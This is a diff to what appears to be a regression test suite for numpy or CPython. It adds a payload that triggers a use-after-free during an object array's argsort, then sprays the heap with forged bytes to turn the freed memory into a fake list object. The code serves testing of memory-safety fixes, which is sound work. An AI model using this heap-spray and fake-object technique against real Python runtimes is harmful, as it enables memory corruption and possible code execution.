@@ -5944,6 +5944,61 @@ PAYLOADS = [
                 return "the freed array came back as a list"
             raise LookupError("the array was held: %s" % type(got[0]).__name__)
         """, on={EXCEPTION}, off={OK, CRASH, EXCEPTION}),
+    # review 63: argsort (and argpartition, searchsorted, lexsort) of an
+    # array of Python objects compare its elements without references, as
+    # sort did: the code emptied the array's slot while numpy's comparison
+    # of a string array ran, and got the freed array back
+    Payload("object-argsort-borrowed-numpy-array", """
+        import textwrap
+        import numpy as np
+        holder = [None]
+        got = [None]
+        freed = [False]
+        SPRAY = []
+        FAKE = [b""]
+        class W:
+            def __eq__(self, o):
+                return False
+            def __gt__(self, o):
+                if holder[0] is not None:
+                    holder[0][1] = None
+                    holder[0] = None
+                    freed[0] = True
+                raise TypeError("no order")
+        class Z:
+            def __len__(self):
+                return 1
+            def __getitem__(self, i):
+                if i != 0:
+                    raise IndexError(i)
+                if freed[0] and not SPRAY:
+                    for _ in range(300):
+                        SPRAY.append(bytearray(FAKE[0]))
+                return W()
+            def __eq__(self, o):
+                return False
+            def __lt__(self, other):
+                return False
+            def __gt__(self, other):
+                if freed[0] and got[0] is None:
+                    got[0] = other
+                return False
+        def main():
+            f = textwrap.dedent
+            FAKE[0] = b"".join(v.to_bytes(8, "little") for v in
+                               (1 << 40, id(list), 1, id(f) + 24, 1, 0, 0, 0, 0, 0, 0, 0))[:95]
+            arr = np.empty(2, dtype=object)
+            arr[0] = Z()
+            arr[1] = np.array(["abc"])
+            holder[0] = arr
+            try:
+                arr.argsort(kind="quicksort")
+            except Exception:
+                pass
+            if type(got[0]) is list:
+                return "the freed array came back as a list"
+            raise LookupError("the array was held: %s" % type(got[0]).__name__)
+        """, on={EXCEPTION}, off={OK, CRASH, EXCEPTION}),
     Payload("make-dataclass-str-base-own-startswith", """
         import dataclasses
         def main():
